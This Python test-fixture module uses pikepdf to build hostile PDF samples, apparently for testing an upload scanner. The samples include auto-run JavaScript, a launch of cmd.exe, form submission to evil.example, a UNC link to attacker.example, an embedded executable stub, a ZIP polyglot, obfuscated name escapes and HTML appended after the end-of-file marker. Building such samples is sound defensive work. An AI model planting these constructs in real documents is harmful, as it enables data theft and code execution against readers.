"""Hostile PDFs, built in code (nothing downloaded), each returned as the bytes of a file.

Active content is written as DIRECT objects wherever the format allows, because a walk of
indirect objects alone misses those. Every builder saves and returns bytes, so a test
re-opens them the way an upload would be opened.
"""

import io
import re
import struct
import zipfile
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

JS = String("app.alert('pwned')")


def _save(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def _base() -> pikepdf.Pdf:
    """A one-page A4 PDF that shows a line of text: inert."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    page.Resources = Dictionary(
        Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    )
    page.Contents = pdf.make_stream(b"BT /F1 11 Tf 56 780 Td (Dokumen rahasia) Tj ET")
    return pdf


def _built(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    pdf = _base()
    change(pdf)
    return _save(pdf)


def _link(action: Dictionary) -> Dictionary:
    """A direct link annotation over the top of the page, doing `action` when clicked."""
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 742, 595, 842], A=action)


def _annotate(pdf: pikepdf.Pdf, annotation: Dictionary) -> None:
    pdf.pages[0].Annots = Array([annotation])


def inert_pdf() -> bytes:
    return _save(_base())


# 1
def open_action_javascript_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=JS)

    return _built(change)


# 2: printing on open is a named action, but not navigation.
def page_additional_action_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.Print))

    return _built(change)


# 3: "will close" runs a script.
def catalog_additional_action_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=JS))

    return _built(change)


# 4
def link_launch_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        _annotate(pdf, _link(Dictionary(S=Name.Launch, F=String("cmd.exe"))))

    return _built(change)


# 5
def link_submit_form_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        target = Dictionary(FS=Name.URL, F=String("https://evil.example/collect"))
        _annotate(pdf, _link(Dictionary(S=Name.SubmitForm, F=target)))

    return _built(change)


# 6
def import_data_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        _annotate(pdf, _link(Dictionary(S=Name.ImportData, F=String("data.fdf"))))

    return _built(change)


# 7
def goto_embedded_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        target = Dictionary(R=Name.C, N=String("payload.pdf"))
        pdf.Root.OpenAction = Dictionary(S=Name.GoToE, D=[0, Name.Fit], T=target)

    return _built(change)


# 8
def names_javascript_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        script = Dictionary(S=Name.JavaScript, JS=JS)
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))

    return _built(change)


# 9
def xfa_form_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        template = pdf.make_stream(b"<template><script>app.alert(1)</script></template>")
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Array([String("template"), template]))

    return _built(change)


# 10: the file named is outside the PDF, so only the annotation's subtype gives it away.
def file_attachment_annotation_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        spec = Dictionary(Type=Name.Filespec, F=String("payload.exe"))
        _annotate(
            pdf,
            Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 20, 20], FS=spec),
        )

    return _built(change)


def _raw_pdf(bodies: list[bytes]) -> bytes:
    """A PDF written byte by byte: object 1 is the catalog; nothing is added or dropped.

    qpdf drops objects nothing refers to when it saves, so orphans need this.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1,
        xref,
    )
    return bytes(out)


_RAW_PAGES = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
]


# 11
def orphan_embedded_file_pdf() -> bytes:
    payload = b"MZ\x90\x00" + b"\x00" * 60
    orphan = b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(payload)
    return _raw_pdf([*_RAW_PAGES, orphan + payload + b"\nendstream"])


def associated_file_pdf() -> bytes:
    """A PDF/A-3 style associated file: no /Names tree, and /Type is optional on the stream."""

    def change(pdf: pikepdf.Pdf) -> None:
        payload = pdf.make_stream(b"MZ\x90\x00")
        spec = Dictionary(Type=Name.Filespec, F=String("data.xml"), EF=Dictionary(F=payload))
        pdf.Root.AF = Array([spec])

    return _built(change)


# 12
def rich_media_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        _annotate(pdf, Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9]))

    return _built(change)


# 13: the first action is harmless; the one it chains to is not.
def next_chain_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        then = Dictionary(S=Name.JavaScript, JS=JS)
        pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=[0, Name.Fit], Next=then)

    return _built(change)


# 14
def nested_javascript_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        deep: object = Dictionary(JS=JS)
        for level in range(30):
            deep = Array([deep]) if level % 2 else Dictionary(Inner=deep)
        pdf.pages[0].Resources.Properties = Dictionary(P0=deep)

    return _built(change)


# 15
def outline_javascript_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
        item = pdf.make_indirect(
            Dictionary(Title=String("Bab 1"), Parent=outlines, A=Dictionary(S=Name.JavaScript))
        )
        outlines.First = outlines.Last = item
        pdf.Root.Outlines = outlines

    return _built(change)


# 16
def inert_cycle_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        loop = pdf.make_indirect(Dictionary(Kind=Name.Loop))
        loop.Self = loop
        loop.Round = Array([Dictionary(Back=loop)])
        pdf.Root.Loop = loop

    return _built(change)


# 17
def harmless_navigation_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0].obj
        pdf.Root.OpenAction = Array([page, Name.Fit])
        _annotate(pdf, _link(Dictionary(S=Name.URI, URI=String("https://kpu.go.id/"))))

    return _built(change)


def inert_structures_using_s_pdf() -> bytes:
    """Dictionaries with an /S that are not actions: structure, labels, borders, groups."""

    def change(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0]
        page.Group = Dictionary(S=Name.Transparency)
        page.Trans = Dictionary(S=Name.Dissolve)
        link = _link(Dictionary(S=Name.Named, N=Name.NextPage))
        link.BS = Dictionary(S=Name.D, W=1)
        _annotate(pdf, link)
        pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.D)]))
        element = Dictionary(Type=Name.StructElem, S=Name.Link, A=Dictionary(O=Name.Layout))
        pdf.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=element)

    return _built(change)


def javascript_uri_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        uri = String(" JavaScript:app.alert(1)")
        _annotate(pdf, _link(Dictionary(S=Name.URI, URI=uri)))

    return _built(change)


def unc_uri_pdf() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        uri = String("\\\\attacker.example\\share\\x")
        _annotate(pdf, _link(Dictionary(S=Name.URI, URI=uri)))

    return _built(change)


def escaped_names_pdf() -> bytes:
    """/S /JavaScript spelt with #xx escapes, which readers decode; so does qpdf."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /Java#53cript /J#53 (x) >> >>"
    return _raw_pdf([catalog, *_RAW_PAGES[1:]])


def action_met_first_as_data_pdf() -> bytes:
    """One indirect action referenced from an inert array and then from /OpenAction."""

    def change(pdf: pikepdf.Pdf) -> None:
        action = pdf.make_indirect(Dictionary(S=Name.Named, N=Name.Print))
        pdf.Root.OpenAction = action
        pdf.Root.Zzz = Array([action])  # sorts last, so it is popped (and met) first

    return _built(change)


def huge_array_pdf(length: int = 200_000) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Filler = Array([0] * length)

    return _built(change)


# --- for the caller's checks, not the walker's -----------------------------------------


def repaired_pdf() -> bytes:
    """Valid but for its startxref, which points nowhere: qpdf rebuilds the xref on open."""
    data = inert_pdf()
    where = re.search(rb"startxref\s+(\d+)", data)
    assert where
    return data[: where.start(1)] + b"99" + data[where.end(1) :]


def polyglot_pdf() -> bytes:
    """A valid PDF with a ZIP archive appended after its %%EOF: it opens as either."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("payload.exe", b"MZ\x90\x00")
    return inert_pdf() + archive.getvalue()


def incremental_update_pdf(data: bytes | None = None) -> bytes:
    """A valid PDF (`data`, or the inert one) followed by a proper incremental update (as a
    signing tool writes one).

    The update adds an /Info dictionary (a new object) and a new revision of the catalog,
    with an xref section for both and a trailer whose /Prev points at the first xref.
    """
    data = data or inert_pdf()
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    pdf = pikepdf.open(io.BytesIO(data))
    size = int(pdf.trailer.Size)
    catalog = pdf.Root.objgen[0]
    pages = pdf.Root.Pages.objgen[0]
    out = bytearray(data)
    info_at = len(out)
    out += b"%d 0 obj\n<< /Title (Revisi 2) /Producer (hand) >>\nendobj\n" % size
    catalog_at = len(out)
    out += b"%d 0 obj\n<< /Type /Catalog /Pages %d 0 R /Lang (id) >>\nendobj\n" % (
        catalog,
        pages,
    )
    xref = len(out)
    out += b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (
        catalog,
        catalog_at,
        size,
        info_at,
    )
    out += b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /Prev %d >>\n" % (
        size + 1,
        catalog,
        size,
        previous,
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def encrypted_pdf() -> bytes:
    """Needs the user password "y" to open (owner password "x")."""
    return _save(_base(), encryption=pikepdf.Encryption(owner="x", user="y"))


def owner_only_encrypted_pdf() -> bytes:
    """Opens without a password; the owner password "x" only restricts what readers allow."""
    return _save(_base(), encryption=pikepdf.Encryption(owner="x", user=""))


# --- Ordinary files written the way other producers write them ------------------------------


def indirect_scalars_pdf(uri: bytes = b"https://kpu.go.id/") -> bytes:
    """Every kind of scalar as an indirect object, as Ghostscript and others write some.

    /Length 13 0 R on the content stream (what ps2pdf writes for every stream), an indirect
    /Count, /Rotate and /BaseFont; indirect names, strings, booleans, null and a real in a
    dictionary and in an array; a link whose /S and /URI are indirect too; and scalars as
    top-level objects that nothing refers to (15-18), which a walk of every object meets.
    """
    content = b"BT /F1 11 Tf 56 780 Td (Dokumen biasa) Tj ET"
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Lang 7 0 R /PageMode 6 0 R /NeedsRendering 8 0 R"
            b" /Extra [5 0 R 6 0 R 7 0 R 8 0 R 9 0 R 10 0 R] >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 5 0 R >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Rotate 12 0 R"
            b" /Resources << /Font << /F1 11 0 R >> >> /Contents 4 0 R /Annots [19 0 R] >>",
            b"<< /Length 13 0 R >>\nstream\n" + content + b"\nendstream",
            b"1",
            b"/UseNone",
            b"(id)",
            b"false",
            b"null",
            b"0.5",
            b"<< /Type /Font /Subtype /Type1 /BaseFont 14 0 R >>",
            b"0",
            b"%d" % len(content),
            b"/Helvetica",
            b"42",
            b"(tidak dirujuk)",
            b"/Yatim",
            b"true",
            b"<< /Type /Annot /Subtype /Link /Rect [56 770 300 790]"
            b" /A << /S 20 0 R /URI 21 0 R >> >>",
            b"/URI",
            b"(" + uri + b")",
        ]
    )


def uri_link_pdf(uri: str) -> bytes:
    """A link annotation that opens `uri`."""

    def change(pdf: pikepdf.Pdf) -> None:
        _annotate(pdf, _link(Dictionary(S=Name.URI, URI=String(uri))))

    return _built(change)


def internal_link_pdf() -> bytes:
    """A two-page PDF whose link goes to its second page: a destination, no /URI."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.add_blank_page(page_size=(595, 842))
        target = Array([pdf.pages[1].obj, Name.Fit])
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 742, 595, 842], Dest=target)
        _annotate(pdf, link)

    return _built(change)


HTML_PAGE = b"<html><body><script>fetch('/steal')</script></body></html>"


def html_revision_pdf() -> bytes:
    """HTML appended and dressed as an incremental update: an object, a %%EOF, no xref."""
    return inert_pdf() + b"9 0 obj\n" + HTML_PAGE + b"\nendobj\n%%EOF\n"


def html_after_eof_with_fake_eof_pdf() -> bytes:
    """HTML after the %%EOF, followed by a %%EOF of its own so that the file ends like a PDF."""
    return inert_pdf() + HTML_PAGE + b"\n%%EOF\n"


def revision_pointing_back_pdf() -> bytes:
    """An appended "revision" with an xref keyword of its own, whose startxref points back at
    the first revision's xref: what a reader uses is the original, the rest is cargo."""
    data = inert_pdf()
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    update = b"9 0 obj\n(" + HTML_PAGE + b")\nendobj\nxref\n0 0\ntrailer\n<< >>\n"
    return data + update + b"startxref\n%d\n%%%%EOF\n" % previous


def xref_stream_update_pdf() -> bytes:
    """A PDF whose xref is a stream (PDF 1.5 and later), updated incrementally as a signing
    tool does it: a new revision of the catalog and an xref stream of its own."""
    data = _save(_base(), object_stream_mode=pikepdf.ObjectStreamMode.generate)
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    pdf = pikepdf.open(io.BytesIO(data))
    size, catalog = int(pdf.trailer.Size), pdf.Root.objgen[0]
    pages = pdf.Root.Pages.objgen[0]
    out = bytearray(data)
    catalog_at = len(out)
    out += b"%d 0 obj\n<< /Type /Catalog /Pages %d 0 R /Lang (id) >>\nendobj\n" % (catalog, pages)
    xref_at = len(out)
    rows = struct.pack(">BIH", 1, catalog_at, 0) + struct.pack(">BIH", 1, xref_at, 0)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%d 1 %d 1] /Root %d 0 R" % (
        size,
        size + 1,
        catalog,
        size,
        catalog,
    )
    out += b" /Prev %d /Length %d >>\nstream\n" % (previous, len(rows))
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def object_streams_pdf() -> bytes:
    """The inert PDF saved with object streams (and so an xref stream), as PDF 1.5 allows."""
    return _save(_base(), object_stream_mode=pikepdf.ObjectStreamMode.generate)


def many_objects_pdf(count: int, *, xref: bool = True) -> bytes:
    """A one-page PDF followed by `count` - 3 empty objects: `count` objects in all.

    With xref, a proper xref table and a trailer whose /Size says so; without, no xref at
    all, so that a parser must rebuild one by reading every `N 0 obj` in the file.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number in range(1, count + 1):
        offsets.append(len(out))
        body = _RAW_PAGES[number - 1] if number <= len(_RAW_PAGES) else b"<<>>"
        out += b"%d 0 obj%sendobj\n" % (number, body)
    if not xref:
        return bytes(out + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n")
    at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (count + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (count + 1, at)
    return bytes(out)
